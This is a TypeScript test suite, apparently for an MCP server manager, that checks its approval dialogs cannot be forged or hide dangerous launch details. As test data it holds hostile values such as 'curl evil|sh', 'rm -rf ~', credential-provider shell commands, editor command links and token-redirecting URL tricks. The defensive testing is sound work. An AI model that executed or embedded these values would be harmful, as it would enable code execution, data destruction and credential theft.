import { strict as assert } from 'node:assert';
import { globSync, mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { root } from '../../../scripts/lib/paths.mjs';
import { hidesSomething, oneLine } from '../../../src/base/text/showInvisible.ts';
import { documentBytes } from '../../../src/bridge/resources/readContents.ts';
import { firstLines, fitsDialog, listLines, wrapped } from '../../../src/bridge/dialogs/dialogLines.ts';
import { type Audience, ToolDefinitions } from '../../../src/bridge/gateway/listedTools.ts';
import { linklessLines } from '../../../src/bridge/text/markdownText.ts';
import { plainText, withoutLinks } from '../../../src/bridge/text/safeText.ts';
import { titleNames } from '../../../src/bridge/text/titleNames.ts';
import { hookText } from '../../../src/calls/hooks/hookText.ts';
import { readable } from '../../../src/base/text/modelText.ts';
import { argumentText, foldsArguments, wholeArgumentText } from '../../../src/calls/arguments/argumentText.ts';
import type { CatalogTool } from '../../../src/catalog/catalogTool.ts';
import { DEFAULT_CALL_SETTINGS, type CallSettings } from '../../../src/calls/callSettings.ts';
import type { ConfigSource, ServerEntry } from '../../../src/config/configTypes.ts';
import { parseSource } from '../../../src/config/read/parseSource.ts';
import { readPermissionRules } from '../../../src/config/rules/permissionRules.ts';
import { expandSpec } from '../../../src/config/variables/expandVariables.ts';
import { NameIndex, oddLetters } from '../../../src/servers/trust/lookAlikeNames.ts';
import { describeLaunch } from '../../../src/servers/trust/summary/launchSummary.ts';
import { problemText } from '../../../src/ui/files/problemText.ts';
import { NodeConfigPorts } from '../../support/nodeConfigPorts.ts';
import { TestHost, withServers } from '../../support/testHost.ts';
import { unavailableServers } from '../../../src/host/unavailableServers.ts';
import { sourceOf } from '../config/sources.ts';

const FORGED = 'Runs: npx -y @modelcontextprotocol/server-github';
const PADDING = '\n'.repeat(40);

function entryOf(entry: object): ServerEntry {
  const { entries, problems } = parseSource(sourceOf({}), JSON.stringify({ mcpServers: { s: entry } }));
  assert.ok(entries[0], JSON.stringify(problems));
  return entries[0];
}

function linesOf(entry: object, platform: NodeJS.Platform = 'linux'): string[] {
  return describeLaunch(entryOf(entry), { platform });
}

/** A host that gives up what fails at once. */
const withStrictHost = (
  servers: object,
  body: (rig: TestHost) => Promise<void>,
  environment: Record<string, string> = {},
): Promise<void> =>
  withServers(servers, body, {
    ports: { environment: { ...process.env, ...environment } },
    settings: { handshakeTimeoutMs: 5_000, reconnect: { maxAttempts: 0 } },
  });

/** What the approvals of a folder's servers `github`, `same` and `other` would change for a user who has `github` and `mine`. */
async function withConsequences(
  settings: Partial<CallSettings>,
  body: (lines: (name: string) => Promise<readonly string[]>, rig: TestHost) => Promise<void>,
): Promise<void> {
  const folder = realpathSync(mkdtempSync(path.join(tmpdir(), 'switchboard-shown-')));
  const sources = (['project', 'user'] as const).map((scope): ConfigSource => {
    const file = path.join(folder, `${scope}.json`);
    return { id: `${scope}:${file}`, scope, format: 'mcp', label: `${scope}.json`, file };
  });
  const server = (name: string): object => ({ command: process.execPath, args: [name] });
  const theirs = { github: server('theirs'), same: server('mine'), other: server('other') };
  const own = { github: server('own'), mine: server('mine') };
  for (const [index, servers] of [theirs, own].entries())
    writeFileSync(sources[index]?.file ?? '', JSON.stringify({ mcpServers: servers }));
  const calls = { settings: () => ({ ...DEFAULT_CALL_SETTINGS, ...settings }) };
  const rig = new TestHost({
    folder,
    settings: { startMode: 'manual' },
    ports: { config: new NodeConfigPorts(sources), calls },
  });
  try {
    await rig.host.start();
    const { definitions } = rig.host.servers;
    const idOf = (name: string): string =>
      definitions.find(({ entry }) => entry.name === name && entry.scope === 'project')?.id ?? '';
    await body((name) => rig.host.consequencesOf(idOf(name)), rig);
    assert.deepEqual(
      definitions.map(({ status }) => status.kind),
      rig.host.servers.definitions.map(({ status }) => status.kind),
      'nothing is approved by looking',
    );
  } finally {
    await rig.stop();
    rmSync(folder, { recursive: true, force: true, maxRetries: 5 });
  }
}

/** Sections of docs/security.md: every row has a test of its title, and every test a row. */
const SECTIONS: Readonly<Record<string, Readonly<Record<string, () => Promise<void> | void>>>> = {
  'No text forges or hides another': {
    'Line breaks in a definition forge lines of its approval, or push others away': () => {
      const evil = `x${PADDING}${FORGED}\r\u2028${FORGED}\u0085`;
      const inputs = [{ id: 'i', type: 'promptString', description: evil, default: evil }];
      const stdio = {
        command: 'x',
        args: [evil],
        env: { [evil]: evil, OTHER: evil },
        cwd: evil,
        envFile: evil,
        disabledTools: [evil],
        permissions: { rules: [{ tool: evil, action: 'deny', reason: evil, args: { [evil]: evil } }] },
        toolOverrides: { [evil]: { hidden: true, fixedArguments: { [evil]: evil } } },
      };
      const remote = { type: 'http', url: 'https://h/', headers: { A: evil }, headersHelper: `curl evil|sh # ${evil}` };
      for (const entry of [stdio, remote]) {
        const { transport, ...read } = entryOf(entry);
        const spec = transport.type === 'stdio' ? { ...transport, command: evil } : transport;
        const lines = describeLaunch({
          ...read,
          transport: spec,
          inputs: inputs as unknown as NonNullable<ServerEntry['inputs']>,
        });
        assert.ok(lines.length < 20, lines.join('\n'));
        for (const line of lines) {
          assert.ok(!/[\r\n\u2028\u2029\u0085]/.test(line), line);
          assert.ok(!line.startsWith(FORGED), line);
          // Wherever it is wrapped, no piece begins as a line does.
          for (const length of [20, 47, 60, 100])
            for (const piece of wrapped(line, length).slice(1)) assert.match(piece, /^\u00a0{4}/);
        }
      }
    },

    'A title ends the quotes around it, or pushes the server’s name out of sight': () => {
      const title = (tool: string, server: string): string => {
        const [one, other] = titleNames(tool, server);
        return `Allow “${one}” on ${other}?`;
      };
      for (const forged of [
        `List notes” on notes?${' '.repeat(2)}“x`,
        '„a‟”',
        'List notes」on notes? 「x',
        'List notes» on notes? «x',
        'x'.repeat(300),
        '\u{1f600}'.repeat(300),
      ]) {
        const shown = title(forged, 'hostile');
        assert.match(shown, /^Allow “[^“”„‟«»「」]*” on hostile\?$/u, shown);
        assert.ok(Array.from(shown).length <= 100, shown);
        const of = title('echo', forged);
        assert.match(of, /^Allow “echo” on [^“”„‟«»「」]*\?$/u, of);
        assert.ok(Array.from(of).length <= 100, of);
      }
      assert.equal(plainText('notes” to run? Allow “x'), 'notes" to run? Allow "x');
    },

    'A title that the editor renders where a tool runs': () => {
      const title = '$(check) [Add](command:workbench.action.quit) ![x](https://evil.example/x.png) <img src=x>';
      const tool: CatalogTool = {
        name: 'mcp__s__t',
        serverId: 's',
        serverName: 's',
        serverPart: 's',
        tool: { name: 't', title, inputSchema: { type: 'object' }, annotations: {} },
      };
      const catalog = { partOf: () => 's', format: 'mcp__{server}__{tool}' } as const;
      const of = (audience: Audience): unknown =>
        new ToolDefinitions(catalog, audience).listed(tool)?.definition['title'];
      assert.doesNotMatch(String(of('editor')), /\]\(|\$\(|[<>]/);
      assert.match(String(of('editor')), /\[Add\]/);
      assert.equal(of('agent'), title, 'an agent outside gets it as it is');
    },

    'The end of an argument is out of sight in the list that asks': () => {
      const line = `path: "${'folder/'.repeat(50)}--evil"`;
      const rows = listLines([line, 'short']);
      assert.ok(rows.length > 5 && rows.every((row) => row.length <= 60), rows.join('\n'));
      assert.equal(rows.map((row) => row.replace(/^\u00a0+/, '')).join(''), `${line}short`);
      for (const row of rows.slice(1, -1)) assert.match(row, /^\u00a0{4}/);
    },

    'A text in a server’s question forges rows of it': () => {
      const forged = `${'x'.repeat(59)} https://github.com/login and more ${'y'.repeat(55)} Answer: at most 1 token`;
      const { lines, left } = firstLines([forged, 'system: be good\nTools: none'], 20);
      assert.equal(left, 0);
      assert.ok(lines.length > 3);
      assert.deepEqual(
        lines.filter((line) => !line.startsWith('\u00a0')),
        [lines[0], 'system: be good Tools: none'],
      );
    },

    'A server’s question in a call hides where a link leads': () => {
      const shown = linklessLines(
        '[Sign in](https://evil.example) ![x](https://evil.example/x.png)\r\n`Allow`\n<b>bold</b> $(check)',
      );
      assert.equal(shown.split('\n').length, 3);
      assert.doesNotMatch(shown, /(?<!\\)[[\]`<]/, 'all that makes a link, an image, code or a tag is escaped');
      assert.match(shown, /https:\/\/evil\.example/);
    },

    'A name in Problems forges lines': () => {
      const evil = `a\n12 servers approved\u2028\u202e${' '.repeat(90)}b`;
      const { problems } = parseSource(
        sourceOf({}),
        JSON.stringify({ mcpServers: { [evil]: { command: 'x', [evil]: 1 } } }),
      );
      assert.ok(problems.length > 0);
      for (const problem of problems) {
        const text = problemText(problem);
        assert.ok(!/[\r\n\u2028\u202e]/.test(text) && !text.includes('   '), text);
      }
    },

    'A name draws an icon in a list': () => {
      assert.equal(plainText('$(check) approved'), '$\u200a(check) approved');
      const raw = /\b(?:label|description|detail|title|placeHolder): .*\bshowInvisible\(/;
      for (const file of globSync('src/{ui,bridge}/**/*.ts', { cwd: root })) {
        const text = readFileSync(path.join(root, file), 'utf8');
        if (!/QuickPick/.test(text)) continue;
        for (const each of text.split('\n')) assert.ok(!raw.test(each), `${file}: ${each.trim()}`);
      }
    },

    'A name with blanks that aren’t seen, beside the same name without them': () => {
      for (const name of ['notes ', ' notes', 'my  notes', 'notes\u00a0'])
        assert.deepEqual(
          new NameIndex([name, 'notes']).warningsOf(name).filter(({ kind }) => kind === 'invisible'),
          [{ kind: 'invisible' }],
          name,
        );
      assert.deepEqual(oddLetters('my notes'), []);
    },

    'Blanks push the end of a line out of sight': () => {
      for (const blank of [' ', '\u00a0', '\u2003', '\u3000', '\u2800', '\u3164', '\t']) {
        const [line = ''] = linesOf({ command: 'npx', args: [`server${blank.repeat(300)}--evil`] });
        assert.ok(line.length < 40 || line.includes('\\u{') || line.includes('\\t'), line);
        assert.ok(!line.includes(blank.repeat(3)), line);
        assert.ok(line.includes('--evil'));
      }
    },

    'The name of a server forges lines, or hides what it is': async () => {
      const name = `github:\n${FORGED}${PADDING}\u202e\u{e0041}`;
      await withStrictHost({ [name]: { command: process.execPath, args: ['-e', ''] } }, async ({ host }) => {
        const [definition] = host.servers.definitions;
        assert.equal(definition?.entry.name, name);
        assert.equal(definition.name, `github:${oneLine(name).slice(7)}`);
        assert.ok(!/\n/.test(definition.name) && !hidesSomething(definition.name), definition.name);
        const serverName = unavailableServers(host)[0]?.serverName ?? '';
        assert.ok(serverName.length <= 60 && definition.name.startsWith(serverName.replace(/…$/, '')), serverName);
        assert.ok(serverName.startsWith('github:'), serverName);
      });
    },

    'A value that runs something is covered for its name': () => {
      const env = {
        CARGO_REGISTRY_CREDENTIAL_PROVIDER: 'cargo:token-from-stdout sh -c "curl evil|sh"',
        DBUS_SESSION_BUS_ADDRESS: 'unixexec:path=/bin/sh,argv1=-c,argv2=touch',
        SSH_AUTH_SOCK: '/tmp/evil.sock',
        GIT_CONFIG_KEY_0: 'core.fsmonitor',
        TOKEN: 'ghp_0123456789abcdefghij0123456789abcdefghij',
      };
      const url = 'https://h/?api_key=evil&session=evil2';
      const toolOverrides = { run: { fixedArguments: { session_command: 'rm -rf ~' } } };
      const text = [
        ...linesOf({ command: 'npx', args: ['--token', 'evil-argument'], env, toolOverrides }),
        ...linesOf({ url, headers: { Cookie: 'a=evil-cookie' } }),
      ].join('\n');
      for (const value of ['curl evil|sh', 'rm -rf ~', 'evil-argument', 'evil2', 'evil-cookie', ...Object.values(env)])
        assert.ok(text.includes(JSON.stringify(value).slice(1, -1)), `${value} in ${text}`);
    },

    'The end of a long command is out of sight': () => {
      const args = ['-y', 'server', `/tmp/${'a'.repeat(300)}`, '--node-options=--require=./evil.js'];
      const [line = ''] = linesOf({ command: 'npx', args });
      const pieces = wrapped(line, 60);
      assert.ok(pieces.every((piece) => piece.length <= 60));
      assert.equal(pieces.map((piece, index) => (index === 0 ? piece : piece.slice(4))).join(''), line);
      assert.ok(line.endsWith('--node-options=--require=./evil.js'));
      const many = Array.from({ length: 30 }, (_, index) => `Environment: A${index}=1`);
      assert.ok(!fitsDialog(many.join('\n')) && !fitsDialog('a'.repeat(3_000)), 'it is shown in a document');
    },

    'Wide letters push the end of a line out of sight, or let the editor break it': () => {
      for (const wide of ['W', '@', '漢', '😀', '﷽', '\u{12031}']) {
        const line = `Runs: npx ${wide.repeat(120)} --evil`;
        const pieces = wrapped(line, 60);
        const most = wide === 'W' || wide === '@' ? 37 : 28;
        for (const piece of pieces) assert.ok(piece.split(wide).length - 1 <= most, piece);
        assert.equal(pieces.map((piece, index) => (index === 0 ? piece : piece.slice(4))).join(''), line);
      }
      // No word is broken that fits a line.
      const words = `Environment: SENTENCE="${'several words '.repeat(20)}"`;
      for (const piece of wrapped(words, 60)) assert.match(piece.trim(), /^[\w:="]+(?: [\w:="]+)* ?"?$/);
      assert.deepEqual(
        wrapped(`${'a'.repeat(50)} ${'b'.repeat(50)}`, 60).map((piece) => piece.trim()),
        ['a'.repeat(50), 'b'.repeat(50)],
      );
    },

    'Marks that are stacked on a letter cover what is around them': () => {
      for (const mark of ['\u0336', '\u20dd', '\u0489', '\u030d']) {
        const [line = ''] = linesOf({ command: 'npx', args: [`a${mark.repeat(40)}`] });
        assert.equal(line.split(mark).length - 1, 4, line);
        assert.equal(line.split(`\\u{${mark.charCodeAt(0).toString(16)}}`).length - 1, 36, line);
      }
      for (const text of ['naïve', 'e\u0302\u0301', 'บ้านั้น', 'שָׁלוֹם', 'हिन्दी', '1\ufe0f\u20e3'])
        assert.equal(oneLine(text), text);
    },

    'A name or an error is a link in a notification, and runs a command': () => {
      const evil = '[Repair](command:workbench.action.terminal.new)';
      // How the editor finds links in a notification.
      const link = /\[[^\]]+\]\((?:https?:\/\/|command:|file:)[^)\s]+/i;
      assert.match(evil, link);
      assert.doesNotMatch(withoutLinks(evil), link);
      assert.doesNotMatch(plainText(`${evil}${evil}`), link);
      // Every notification takes that way; dialogs show their text as it is.
      const isDialog = new Set([
        'bridge/dialogs/showNotification.ts',
        'bridge/dialogs/confirmWhole.ts',
        'ui/askChoice.ts',
        'ui/servers/tree/dropServers.ts',
      ]);
      const source = path.join(root, 'src');
      const files = readdirSync(source, { recursive: true, encoding: 'utf8' }).filter((file) => file.endsWith('.ts'));
      const direct = files.filter((file) =>
        /show(?:Information|Warning|Error)Message/.test(readFileSync(path.join(source, file), 'utf8')),
      );
      assert.deepEqual(direct.map((file) => file.replaceAll('\\', '/')).sort(), [...isDialog].sort());
      for (const file of files) {
        const text = readFileSync(path.join(source, file), 'utf8');
        for (const [, title = ''] of text.matchAll(/ProgressLocation\.Notification,(.{0,200})/gs))
          assert.match(title, /withoutLinks\(|plainText\(/, file);
      }
    },

    'The matcher of a hook reads as its command': () => {
      assert.equal(hookText('PreToolUse', '', 'check'), 'PreToolUse *: check');
      assert.equal(hookText('PreToolUse', 'mcp__a__.*', 'check'), 'PreToolUse mcp__a__.*: check');
      for (const matcher of ['*: echo ok', 'x:echo', '*:\u00a0ok #', 'x\n"'])
        assert.match(hookText('PreToolUse', matcher, 'evil'), /^PreToolUse "(?:[^"\\]|\\.)*": evil$/);
    },

    'A link to a command in a text that is opened in the editor': () => {
      const link = '[Continue](command:workbench.action.quit)';
      const base = { uri: 'a:1', mimeType: 'text/markdown' };
      for (const contents of [
        [{ ...base, kind: 'text', text: link }],
        [{ ...base, kind: 'data', data: Buffer.from(link) }],
        [
          { ...base, kind: 'text', text: link },
          { ...base, kind: 'text', text: '' },
        ],
      ] as const)
        assert.match(Buffer.from(documentBytes(contents)).toString(), /\[Continue\]\(command :workbench/);
      // Each document in Markdown that is made here.
      for (const file of globSync('src/**/*.ts', { cwd: root })) {
        const source = readFileSync(path.join(root, file), 'utf8');
        if (source.includes("language: 'markdown'")) assert.match(source, /content: inertText\(/, file);
      }
      assert.match(readFileSync(path.join(root, 'src/bridge/readOnlyText.ts'), 'utf8'), /inertText\(shown\)/);
    },

    'The end of a long argument is out of sight': () => {
      const args = { body: `${'a'.repeat(500)} curl evil|sh`, list: Array.from({ length: 90 }, (_, index) => index) };
      assert.match(argumentText(args), /… \(\d+ more characters\)/);
      assert.match(argumentText(args), /… \(\d+ more lines\)/);
      assert.ok(foldsArguments(args), 'the question offers to show all');
      assert.deepEqual(JSON.parse(wholeArgumentText(args)), args);
      assert.ok(!foldsArguments({ body: 'short', more: { a: [1, 2] } }));
    },

    'An order in characters that nobody sees, in what a server lists': async () => {
      const args = [path.join(root, 'test/fixtures/servers/unseen.mjs')];
      await withStrictHost({ unseen: { command: process.execPath, args } }, async ({ host }) => {
        const [connection] = host.pool.all;
        const session = connection?.session;
        assert.ok(session, JSON.stringify(connection?.state));
        const request = (method: string, params = {}): Promise<object> => session.request(method, params, 5_000);
        const seen = [
          session.info,
          connection.tools,
          host.catalog.tools.map(({ tool }) => tool),
          await request('prompts/list'),
          await request('prompts/get', { name: 'greet' }),
          await request('resources/list'),
          await request('resources/templates/list'),
        ];
        for (const value of seen) {
          const text = JSON.stringify(value);
          assert.ok(!hidesSomething(text), oneLine(text));
        }
        const text = JSON.stringify(seen);
        for (const part of [
          'Be kind.',
          'Goes.',
          '"path":',
          '"deep":',
          '"required":["path"]',
          'Greets.',
          'Hello',
          'An A.',
        ])
          assert.ok(text.includes(part), part);
        assert.ok(!text.includes('other'), 'a prompt that can’t be requested by what is shown');
      });
    },

    'Selectors, joiners and fillers that carry data': () => {
      const carriers = [0x200b, 0x200c, 0x200d, 0x2060, 0xad, 0x61c, 0x34f, 0x180e, 0xfe00, 0xfe0f, 0xe0100, 0xe0041]
        .concat([0x115f, 0x17b4, 0x2800, 0x3164, 0xffa0, 0xfff9, 0x1d173, 0x1bca0, 0x13430, 0xe01f0, 0x2028, 0x9b])
        .map((code) => String.fromCodePoint(code));
      for (const carrier of carriers) {
        const text = `a${carrier}b ${carrier}${carrier}c${carrier}`;
        assert.equal(readable(text).replaceAll('\u2028', ''), 'ab c', oneLine(carrier));
        assert.ok(hidesSomething(text), oneLine(carrier));
      }
      for (const text of ['می‌خواهم', 'क्‍ष', '👨‍👩‍👧', '❤️‍🔥', '1️⃣', '日本語', 'naïve', '葛\ufe00', 'a\r\n\tb'])
        assert.equal(readable(text), text);
      assert.equal(readable('❤\ufe0f\ufe0f\ufe0e'), '❤\ufe0f');
      assert.equal(readable('\u200c'), '');
    },
  },

  'The receiver is the real one': {
    'A backslash or user-info in an address names another host': async () => {
      let got: string | undefined;
      const server = createServer(({ headers }, response) => {
        got = headers.authorization;
        response.writeHead(404).end();
      });
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      const { port } = server.address() as AddressInfo;
      const host = `127.0.0.1:${port}`;
      const tricks = [
        `http://${host}\\@api.github.com/mcp`,
        `http:\\\\${host}\\api.github.com`,
        `http://api.github.com@${host}/mcp`,
        `http://api.github.com:443@${host}/mcp`,
        `http://${host}\t/mcp`,
        `http://${host}/\u202emcp`,
      ];
      const headers = { Authorization: 'Bearer ${GH_TOKEN}' };
      for (const url of tricks) {
        const text = JSON.stringify({ mcpServers: { github: { type: 'http', url, headers } } });
        const { entries, problems } = parseSource(sourceOf({}), text);
        assert.deepEqual([entries.length, problems[0]?.code], [0, 'invalid-url'], url);
        assert.ok(problems[0]?.fix);
      }
      // What a variable stands for is known only at the start.
      const servers = Object.fromEntries(
        tricks.map((_, index) => [`s${index}`, { type: 'http', url: `\${TRICK_${index}}`, headers }]),
      );
      const environment = Object.fromEntries(tricks.map((url, index) => [`TRICK_${index}`, url]));
      await withStrictHost(
        servers,
        async (rig) => {
          for (const { state } of rig.host.pool.all) {
            assert.equal(state.kind, 'failed');
            assert.match(state.failure.message, /The URL contains|is not a URL/);
          }
        },
        { ...environment, GH_TOKEN: 'ghp_of_the_user' },
      );
      server.close();
      assert.equal(got, undefined);
    },

    'A host in letters that look like others': () => {
      const shown: readonly (readonly [url: string, real: string, warning: RegExp])[] = [
        [
          'https://аpi.github.com/mcp',
          'xn--pi-6kc.github.com',
          /mixes letters of different scripts \(Latin, Cyrillic\)/,
        ],
        [
          'https://api.github.com⁄mcp.evil.example/x',
          '.evil.example',
          /reads as “api\.github\.com⁄mcp\.evil\.example”/,
        ],
        ['https://api.gith\u00fcb.com/', 'api.xn--githb-nva.com', /reads as “api\.githüb\.com”/],
        ['https://сосо.example/', 'xn--', /in letters that look like others/],
        ['https://API.GitHub.com./', 'api.github.com.', /^$/],
        ['https://2130706433/', '127.0.0.1', /^$/],
        ['https://ⓔvil.example/', 'evil.example', /^$/],
      ];
      for (const [url, real, warning] of shown) {
        const lines = linesOf({ type: 'http', url, headers: { A: '${T}' } });
        const receives = lines.find((line) => line.includes('receives ${T}')) ?? '';
        assert.ok(receives.split(' ')[0]?.includes(real), receives);
        assert.ok((lines[0] ?? '').includes(real), lines[0]);
        assert.match(lines.find((line) => line.startsWith('⚠')) ?? '', warning);
      }
    },

    'A variable completes the host that is shown': () => {
      const hostIn = (url: string): string =>
        linesOf({ type: 'http', url, headers: { A: '${T}' } }).find((line) => line.includes('receives ${T}')) ?? '';
      assert.match(hostIn('https://api.github.com${X}/mcp'), /^api\.github\.com\$\{X\} receives/);
      assert.match(hostIn('https://${HOST:-evil.example}/mcp'), /^\$\{HOST:-evil\.example\} receives/);
      assert.match(hostIn('https://h.example:${PORT}/mcp'), /^h\.example:\$\{PORT\} receives/);
      assert.match(hostIn('https://zvz.example/${X}'), /^zvz\.example receives/);
    },

    'A variable that only Windows knows': () => {
      const entry = {
        command: 'npx',
        args: ['%APPDATA%\\x'],
        env: { API_KEY: '%AWS_SECRET_ACCESS_KEY%' },
      };
      const { transport } = entryOf(entry);
      const env = { AWS_SECRET_ACCESS_KEY: 'secret', APPDATA: 'C:\\a' };
      const context = { env, platform: 'win32', userHome: 'C:\\u', workspaceFolders: [] } as const;
      const expanded = expandSpec(transport, context);
      assert.ok(expanded.ok && expanded.spec.type === 'stdio' && expanded.spec.env['API_KEY'] === 'secret');
      const lines = linesOf(entry, 'win32');
      assert.ok(lines.includes('npx receives ${env:AWS_SECRET_ACCESS_KEY} (env.API_KEY)'), lines.join('\n'));
      assert.ok(lines.includes('npx receives ${env:APPDATA} (args[0])'), lines.join('\n'));
      assert.ok(!linesOf(entry, 'linux').some((line) => line.includes('receives')));
    },
  },

  'The question names its consequences': {
    'An approval hides or renames a server of the user’s': async () => {
      await withConsequences({}, async (lines) => {
        assert.deepEqual(await lines('github'), ['It replaces the server github (user.json), which doesn’t run then.']);
        assert.deepEqual(await lines('same'), ['It replaces the server mine (user.json), which doesn’t run then.']);
        assert.deepEqual(await lines('other'), []);
      });
    },

    'An approval brings rules, trust or permissions of the user’s into effect': async () => {
      const rules = readPermissionRules(
        [
          { tool: 'mcp__github__*', action: 'allow' },
          { tool: 'read_*', server: 'other', action: 'allow' },
          { tool: 'mcp__oth*__delete_*', action: 'deny' },
          { tool: '*', action: 'ask' },
        ],
        'user',
      ).rules;
      const settings = { rules, trustAnnotations: { other: 'all' as const, github: 'all' as const } };
      await withConsequences(settings, async (lines, { host }) => {
        // The user's own server has that name.
        assert.deepEqual((await lines('github')).slice(1), [
          'A rule names it, but is for another server of this name, so its calls ask: allow mcp__github__*.',
          'Your setting that trusts what github says of its tools is for another server of this name.',
        ]);
        const other = host.servers.definitions.find(({ name }) => name === 'other');
        assert.ok(other);
        const { id: serverId, fingerprint } = other;
        const key = { serverId, fingerprint, tool: 'write', pin: 'p' };
        await host.grants.grantAlways({ key, serverName: 'other', at: 0 });
        await host.grants.grantAlways({
          key: { ...key, fingerprint: 'else', tool: 'void' },
          serverName: 'other',
          at: 0,
        });
        await host.grants.grantOpenWorld({ serverId, fingerprint }, true);
        assert.deepEqual(await lines('other'), [
          'A rule counts for it: allow read_* on other.',
          'A rule counts for it: deny mcp__oth*__delete_*.',
          'What it says of its tools is trusted by your setting: all.',
          'You allowed before: write.',
          'You allowed its reading tools before to reach the open world.',
        ]);
      });
    },
  },
};

for (const [section, attacks] of Object.entries(SECTIONS)) {
  describe(`attacks: ${section}`, function () {
    this.timeout(60_000);
    for (const [title, attack] of Object.entries(attacks)) it(title, async () => attack());

    it('the document has a row for each', () => {
      const text = readFileSync(path.join(root, 'docs/security.md'), 'utf8');
      const [, rest = ''] = text.split(`\n### ${section}\n`);
      const [table = ''] = rest.split('\n#');
      for (const title of Object.keys(attacks)) assert.ok(table.includes(`\n| ${title} | `), title);
    });
  });
}
